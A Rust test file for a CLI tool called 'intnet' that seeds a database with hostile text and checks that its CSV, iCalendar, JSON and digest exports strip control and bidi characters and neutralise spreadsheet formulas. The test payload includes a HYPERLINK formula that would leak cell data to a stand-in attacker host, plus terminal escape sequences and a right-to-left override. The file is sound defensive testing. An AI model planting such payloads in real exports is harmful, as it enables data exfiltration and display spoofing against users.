//! Hostile stored text through every export and every `--json` output: no raw control
//! or bidi character leaves, spreadsheet formulas are neutralised, and the files still
//! read back with another program's parser.

mod common;
use common::intnet;
use std::path::{Path, PathBuf};

/// An escape sequence, BEL, a bare CR, a right-to-left override, a one-character CSI
/// (U+009B) and a formula that Excel would open as a live link.
const HOSTILE: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\") \x1b[31mred\x07\rCR\u{202E}RLO\u{9B}2J end";

/// [`HOSTILE`] as it must arrive in a CSV cell or an iCalendar text after cleaning: the
/// CR a line break, every other control and the bidi override gone.
const CLEAN: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\") [31mred\nCRRLO2J end";

struct Db {
    _dir: tempfile::TempDir,
    path: PathBuf,
}

fn ok(db: &Path, args: &[&str]) {
    let out = intnet(db).args(args).output().unwrap();
    assert!(
        out.status.success(),
        "{args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

fn run(db: &Path, args: &[&str]) -> String {
    let out = intnet(db).args(args).output().unwrap();
    assert!(
        out.status.success(),
        "{args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).expect("output is UTF-8")
}

fn in_days(days: i64) -> String {
    let today = intnet::store::today();
    intnet::model::add_days(&today, days).unwrap()
}

/// A database whose every text field a user types holds [`HOSTILE`], behind a leading
/// `=`, `+`, `-`, `@` or tab: a member, an organisation of kind network, a person, a
/// contact, a training activity, a news item, a plan with an item, a project with a
/// milestone and a membership.
fn hostile_db() -> Db {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("exports.db");
    let p = &path;
    let h = |prefix: &str| format!("{prefix}{HOSTILE}");
    // intnet refuses control characters in member and unit names; another tool
    // writing the file may not, so they are put in behind its back below.
    ok(p, &["--as", "root", "init", "--name", "Root"]);
    ok(p, &["--as", "root", "unit", "add", "KLK", "Unit"]);
    ok(
        p,
        &[
            "--as", "root", "member", "add", "anna", "--name", "Anna", "--unit", "KLK",
        ],
    );
    {
        let conn = rusqlite::Connection::open(p).unwrap();
        conn.execute(
            "UPDATE members SET full_name = ?1 WHERE account = 'root'",
            [h("Root ")],
        )
        .unwrap();
        conn.execute(
            "UPDATE members SET full_name = ?1 WHERE account = 'anna'",
            [h("+Anna")],
        )
        .unwrap();
        conn.execute(
            "UPDATE units SET name = ?1 WHERE code = 'KLK'",
            [h("Unit ")],
        )
        .unwrap();
    }
    ok(
        p,
        &[
            "--as",
            "root",
            "org",
            "add",
            &h("@Org"),
            "--country",
            "SE",
            "--kind",
            "network",
            &format!("--city=-City{HOSTILE}"),
            "--notes",
            HOSTILE,
        ],
    );
    ok(p, &["--as", "root", "person", "add", "1", &h("Person ")]);
    ok(p, &["--as", "anna", "interaction", "add", "1", HOSTILE]);
    ok(
        p,
        &[
            "--as",
            "anna",
            "training",
            "log",
            HOSTILE,
            "--hours",
            "2",
            "--organiser",
            &h("+"),
            &format!("--city=-{HOSTILE}"),
            "--partner",
            "1",
            "--cost",
            "100",
            "--notes",
            &h("@"),
            "--shared",
            &h("\ttab"),
            "--date",
            &in_days(-1),
        ],
    );
    ok(
        p,
        &[
            "--as",
            "root",
            "news",
            "post",
            "--title",
            HOSTILE,
            "--category",
            "call",
            "--deadline",
            &in_days(10),
            "--partner",
            "1",
        ],
    );
    let year = &intnet::store::today()[..4];
    ok(
        p,
        &[
            "--as", "root", "plan", "add", HOSTILE, "--year", year, "--goals", HOSTILE,
        ],
    );
    let due = in_days(5);
    ok(
        p,
        &[
            "--as", "root", "plan", "item", "1", HOSTILE, "--owner", "anna", "--due", &due,
        ],
    );
    ok(
        p,
        &[
            "--as",
            "root",
            "project",
            "add",
            &h("P "),
            "--acronym",
            &h("@"),
            "--notes",
            HOSTILE,
            "--unit",
            "KLK",
        ],
    );
    ok(p, &["--as", "root", "project", "partner", "1", "1"]);
    ok(
        p,
        &[
            "--as",
            "root",
            "project",
            "milestone",
            "1",
            HOSTILE,
            "--due",
            &in_days(6),
        ],
    );
    ok(
        p,
        &[
            "--as",
            "root",
            "membership",
            "add",
            "1",
            "--member",
            "anna",
            "--next",
            &in_days(7),
        ],
    );
    Db { _dir: dir, path }
}

fn is_bidi(c: char) -> bool {
    matches!(
        c,
        '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{200E}' | '\u{200F}' | '\u{061C}'
    )
}

/// No control character but the line feed, and no bidi control, anywhere in `text`.
fn assert_clean(what: &str, text: &str) {
    if let Some((i, c)) = text
        .char_indices()
        .find(|&(_, c)| (c.is_control() && c != '\n') || is_bidi(c))
    {
        panic!(
            "{what}: raw {:?} at byte {i}: {:?}",
            c,
            &text[i.saturating_sub(40)..]
        );
    }
}

#[test]
fn the_training_csv_is_clean_neutralised_and_reads_back() {
    let d = hostile_db();
    let text = run(&d.path, &["--as", "anna", "export", "training"]);
    assert_clean("export training", &text);
    let mut r = csv::Reader::from_reader(text.as_bytes());
    let headers = r.headers().unwrap().clone();
    let records: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
    assert_eq!(records.len(), 1, "{text}");
    let get = |name: &str| {
        records[0]
            .get(headers.iter().position(|h| h == name).unwrap())
            .unwrap()
            .to_string()
    };
    assert_eq!(get("title"), format!("'{CLEAN}"));
    assert_eq!(get("organiser"), format!("'+{CLEAN}"));
    assert_eq!(get("city"), format!("'-{CLEAN}"));
    assert_eq!(get("notes"), format!("'@{CLEAN}"));
    assert_eq!(get("shared"), format!("' tab{CLEAN}"));
    assert_eq!(get("partner"), format!("'@Org{CLEAN}"));
    // Numbers the program writes stay numbers.
    assert_eq!(get("cost_sek"), "100");
    assert_eq!(get("hours"), "2");
    for field in records[0].iter() {
        assert!(
            !field.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a cell opens as a formula: {field:?}"
        );
    }
}

#[test]
fn summaries_as_csv_and_json_are_clean() {
    let d = hostile_db();
    for by in ["unit", "kind", "member", "month", "area"] {
        let csv_text = run(
            &d.path,
            &[
                "--as", "anna", "training", "summary", "--by", by, "--format", "csv",
            ],
        );
        assert_clean("summary csv", &csv_text);
        let mut r = csv::Reader::from_reader(csv_text.as_bytes());
        assert!(r.records().all(|rec| rec.is_ok()));
        let json = run(
            &d.path,
            &[
                "--as", "anna", "training", "summary", "--by", by, "--format", "json",
            ],
        );
        assert_clean("summary json", &json);
        serde_json::from_str::<serde_json::Value>(&json).unwrap();
    }
}

#[test]
fn the_ics_file_is_escaped_without_controls_and_parses() {
    let d = hostile_db();
    let text = run(&d.path, &["--as", "anna", "export", "ics"]);
    // iCalendar lines end in CRLF; no other CR, and no other control, may be there.
    assert_clean("export ics", &text.replace("\r\n", "\n"));
    let mut parser = ical::IcalParser::new(std::io::BufReader::new(text.as_bytes()));
    let cal = parser.next().expect("one calendar").expect("parses");
    assert!(parser.next().is_none(), "one calendar only");
    // The plan item, the milestone, the membership's evaluation, the call.
    assert_eq!(cal.events.len(), 4, "{text}");
    let escaped = CLEAN
        .replace('\\', "\\\\")
        .replace(',', "\\,")
        .replace(';', "\\;")
        .replace('\n', "\\n");
    let summaries: Vec<String> = cal
        .events
        .iter()
        .filter_map(|e| e.properties.iter().find(|p| p.name == "SUMMARY"))
        .filter_map(|p| p.value.clone())
        .collect();
    // The ical crate trims a space at the end of a folded line before unfolding, so
    // spaces are compared away.
    let unspaced = |s: &str| s.replace(' ', "");
    assert!(
        summaries
            .iter()
            .filter(|s| unspaced(s).contains(&unspaced(&escaped)))
            .count()
            >= 3,
        "{summaries:#?}"
    );
    for e in &cal.events {
        for p in &e.properties {
            let v = p.value.clone().unwrap_or_default();
            assert_clean(&p.name, &v);
            assert!(!v.contains('\n'), "{}: {v:?}", p.name);
        }
    }
}

#[test]
fn every_json_output_escapes_controls_and_bidi() {
    let d = hostile_db();
    let commands: &[&[&str]] = &[
        &["--as", "anna", "find", "hyperlink", "--json"],
        &["--as", "anna", "org", "show", "1", "--json"],
        &["--as", "anna", "news", "list", "--json"],
        &["--as", "anna", "training", "list", "--json"],
        &["--as", "anna", "plan", "list", "--json"],
        &["--as", "anna", "plan", "show", "1", "--json"],
        &["--as", "anna", "deadlines", "--json"],
        &["--as", "anna", "project", "list", "--json"],
        &["--as", "anna", "project", "show", "1", "--json"],
        &["--as", "anna", "membership", "list", "--json"],
    ];
    for args in commands {
        let text = run(&d.path, args);
        assert_clean(&format!("{args:?}"), &text);
        // The hostile text is there, escaped, and reads back as it was stored.
        for escape in ["\\u001b[31m", "\\u0007", "\\r", "\\u202E", "\\u009B"] {
            assert!(text.contains(escape), "{args:?}: no {escape} in {text}");
        }
        let v: serde_json::Value = serde_json::from_str(&text).unwrap();
        fn has(v: &serde_json::Value, s: &str) -> bool {
            match v {
                serde_json::Value::String(t) => t.contains(s),
                serde_json::Value::Array(a) => a.iter().any(|x| has(x, s)),
                serde_json::Value::Object(o) => o.values().any(|x| has(x, s)),
                _ => false,
            }
        }
        assert!(
            has(&v, HOSTILE),
            "{args:?}: the stored text did not read back"
        );
    }
}

#[test]
fn news_digests_and_news_show_are_clean_text() {
    let d = hostile_db();
    for args in [
        &["--as", "anna", "news", "digest"][..],
        &["--as", "anna", "news", "digest", "--format", "markdown"],
        &["--as", "anna", "news", "digest", "--format", "text"],
        &["--as", "anna", "news", "show", "1"],
    ] {
        let text = run(&d.path, args);
        assert_clean(&format!("{args:?}"), &text);
        assert!(text.contains("[31mred"), "{args:?}: {text}");
    }
}

/// Dates are validated on the way in, but a database written by an older version or
/// another tool may hold anything; the digest prints them sanitised all the same.
#[test]
fn a_digest_sanitises_stored_dates_too() {
    let d = hostile_db();
    let conn = rusqlite::Connection::open(&d.path).unwrap();
    let changed = conn
        .execute(
            "UPDATE news SET deadline = ?1, event_date = ?1",
            [format!("2030-01-01{HOSTILE}")],
        )
        .unwrap();
    assert_eq!(changed, 1);
    drop(conn);
    for format in ["text", "markdown"] {
        let text = run(
            &d.path,
            &["--as", "anna", "news", "digest", "--format", format],
        );
        assert_clean(format, &text);
        assert!(text.contains("2030-01-01=HYPERLINK"), "{text}");
    }
}
